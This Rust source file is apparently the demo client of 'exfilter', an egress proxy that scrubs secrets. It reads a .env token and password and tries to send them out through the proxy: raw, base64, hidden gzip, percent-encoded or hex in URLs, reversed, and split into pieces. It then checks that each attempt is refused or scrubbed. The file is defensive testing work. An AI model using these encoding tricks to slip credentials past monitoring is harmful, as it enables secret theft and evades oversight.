//! `exfilter demo-client`: the program of the demonstration. It knows nothing of exfilter: it takes proxy and certificates from its environment, as curl does.

use std::io;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use bytes::Bytes;
use clap::Args;
use http_body_util::{BodyExt as _, Full};
use hyper::client::conn::http1;
use hyper::header::{AUTHORIZATION, CONTENT_ENCODING, CONTENT_TYPE, HOST as HOST_HEADER};
use hyper::{Method, Request, StatusCode};
use hyper_util::rt::TokioIo;
use rustls::pki_types::pem::PemObject as _;
use rustls::pki_types::{CertificateDer, ServerName};
use rustls::{ClientConfig, RootCertStore};
use tokio_rustls::TlsConnector;
use zeroize::Zeroizing;

use super::super::{child, connect, setup};
use super::{FILE, HOST, PASSWORD, TOKEN, wrap};
use crate::fault::Fault;
use crate::term::Term;

/// `exfilter demo-client`.
#[derive(Args)]
pub(crate) struct ClientArgs {
    /// The folder in which the program finds secrets
    folder: PathBuf,
}

/// One request.
struct Attempt {
    what: &'static str,
    is_refused: bool,
    request: Request<Full<Bytes>>,
}

/// Sends what it can, and tells what came of it. The code is 0 if all was as it should be.
///
/// # Errors
///
/// The file is not there, or there is no proxy.
pub(crate) fn run(args: &ClientArgs, term: &Term) -> Result<u8, Fault> {
    let fault = |what: String| Fault::new("demo-client", what, "run exfilter run --demo");
    let secrets = Secrets::read(&args.folder).map_err(|error| fault(error.to_string()))?;
    let all = attempts(&secrets).map_err(|error| fault(error.to_string()))?;
    let runtime = child::runtime().map_err(|error| fault(error.to_string()))?;
    let tls = tls().map_err(|error| fault(format!("no certificates: {error}")))?;
    let (mut lines, mut is_right) = (Vec::new(), true);
    for attempt in all {
        let had = attempt.request.headers().get(AUTHORIZATION).cloned();
        let (status, body) = runtime
            .block_on(send(&tls, attempt.request))
            .map_err(|error| fault(format!("no answer: {error}")))?;
        // In the words of the API: 403, or 422 as GitHub has it.
        let is_refused = status.is_client_error();
        // What the server says it got is as long as what was sent, and nothing of it is the real one.
        let is_scrubbed =
            is_refused || had.is_none_or(|had| had.len() == body.len()) && !holds(&body, &secrets);
        let as_it_should = is_refused == attempt.is_refused && is_scrubbed;
        is_right &= as_it_should;
        let mark = if as_it_should { ' ' } else { '!' };
        lines.push(format!("{mark} {}  {}", status.as_u16(), attempt.what));
    }
    let told = term.report(|out| {
        writeln!(out, "answers to what the program sent to {HOST}:")?;
        lines.iter().try_for_each(|line| writeln!(out, "{line}"))
    });
    told.map_err(|error| fault(format!("this cannot be printed: {error}")))?;
    Ok(u8::from(!is_right))
}

/// What the program finds.
struct Secrets {
    file: Zeroizing<Vec<u8>>,
    token: Zeroizing<Vec<u8>>,
    password: Zeroizing<Vec<u8>>,
}

impl Secrets {
    fn read(folder: &Path) -> io::Result<Secrets> {
        let file = Zeroizing::new(std::fs::read(folder.join(FILE))?);
        let value = |name: &str| {
            let of = |line: &[u8]| line.strip_prefix(name.as_bytes())?.strip_prefix(b"=").map(<[u8]>::to_vec);
            file.split(|byte| *byte == b'\n').find_map(of).map(Zeroizing::new).ok_or_else(|| missing(name))
        };
        let (token, password) = (value(TOKEN)?, value(PASSWORD)?);
        Ok(Secrets { file, token, password })
    }
}

fn missing(what: &str) -> io::Error {
    io::Error::other(format!("{what} is not there"))
}

fn holds(text: &[u8], secrets: &Secrets) -> bool {
    [&secrets.token, &secrets.password].into_iter().any(|value| wrap::occurrences(text, value) > 0)
}

/// What it tries.
fn attempts(secrets: &Secrets) -> io::Result<Vec<Attempt>> {
    let Secrets { file, token, password } = secrets;
    let placeholder = std::env::var(TOKEN).map_err(|_| missing(TOKEN))?;
    let other = Zeroizing::new(setup::made_up_key().map_err(|_| missing("another token"))?);
    let json = |text: &[u8]| [b"{\"text\": \"", text, b"\"}"].concat();
    let bearer = |token: &[u8]| [b"Bearer ", token].concat();
    let mut all = Vec::new();
    let mut add =
        |what, is_refused, method: Method, path: &[u8], header: Option<(_, &[u8])>, body: Vec<u8>| {
            let mut request = Request::builder().method(method).uri(path).header(HOST_HEADER, HOST);
            if let Some((name, value)) = header {
                request = request.header(name, value);
            }
            let request = request.body(Full::new(body.into())).map_err(io::Error::other)?;
            all.push(Attempt { what, is_refused, request });
            io::Result::Ok(())
        };
    let (get, post) = (Method::GET, Method::POST);
    let is_json = || Some((CONTENT_TYPE, &b"application/json"[..]));
    add("an issue without a secret", false, post.clone(), b"/issues", is_json(), json(b"it does not build"))?;
    let own = bearer(placeholder.as_bytes());
    let what = "the GITHUB_TOKEN of its environment, a placeholder: the server gets the real one, and what it says of it is overwritten";
    add(what, false, get.clone(), b"/user", Some((AUTHORIZATION, &own)), Vec::new())?;
    let foreign = bearer(&other);
    add("somebody else's token", true, get.clone(), b"/user", Some((AUTHORIZATION, &foreign)), Vec::new())?;
    add("the .env, as it stands", true, post.clone(), b"/gists", None, file.to_vec())?;
    let coded = json(&wrap::base64(file));
    add("the .env in base64, in JSON", true, post.clone(), b"/issues", is_json(), coded)?;
    add("the .env as gzip that nothing tells of", true, post.clone(), b"/upload", None, wrap::gzip(file)?)?;
    let (twice, gzip) =
        (wrap::gzip(&wrap::gzip(&wrap::base64(token))?)?, Some((CONTENT_ENCODING, &b"gzip"[..])));
    add("the token in base64, twice in gzip", true, post.clone(), b"/upload", gzip, twice)?;
    let query = [b"/search?q=", &wrap::percent(token)[..]].concat();
    add("the token in the address, percent-encoded", true, get.clone(), &query, None, Vec::new())?;
    let query = [b"/search?q=", &wrap::hex(password)[..]].concat();
    add("the password in the address, in hexadecimal digits", true, get, &query, None, Vec::new())?;
    let back = json(&wrap::reversed(password));
    add("the password, reversed", true, post.clone(), b"/issues", is_json(), back)?;
    // Few letters are as any others: the second half is too much.
    let of_piece = ["a quarter of the password", "the next one", "the next one", "the last one"];
    for (at, (piece, what)) in password.chunks(super::LENGTH / of_piece.len()).zip(of_piece).enumerate() {
        add(what, at >= 2, post.clone(), b"/issues", is_json(), json(piece))?;
    }
    Ok(all)
}

/// Whom the environment trusts.
fn tls() -> io::Result<TlsConnector> {
    let bundle =
        std::env::var_os("SSL_CERT_FILE").ok_or_else(|| io::Error::other("SSL_CERT_FILE is not set"))?;
    let mut roots = RootCertStore::empty();
    for certificate in CertificateDer::pem_file_iter(&bundle).map_err(io::Error::other)? {
        // Others are of no use here.
        let _ = certificate.map(|certificate| roots.add(certificate));
    }
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let config = ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .map_err(io::Error::other)?
        .with_root_certificates(roots)
        .with_no_client_auth();
    Ok(TlsConnector::from(Arc::new(config)))
}

async fn send(tls: &TlsConnector, request: Request<Full<Bytes>>) -> io::Result<(StatusCode, Bytes)> {
    let stream = connect::tunnel(HOST, 443)?;
    stream.set_nonblocking(true)?;
    let stream = tokio::net::TcpStream::from_std(stream)?;
    let name = ServerName::try_from(HOST).map_err(io::Error::other)?;
    let stream = tls.connect(name, stream).await?;
    let (mut sender, connection) = http1::handshake(TokioIo::new(stream)).await.map_err(io::Error::other)?;
    let connection = tokio::spawn(connection);
    let answer = sender.send_request(request).await.map_err(io::Error::other)?;
    let status = answer.status();
    let body = answer.into_body().collect().await.map_err(io::Error::other)?.to_bytes();
    connection.abort();
    Ok((status, body))
}
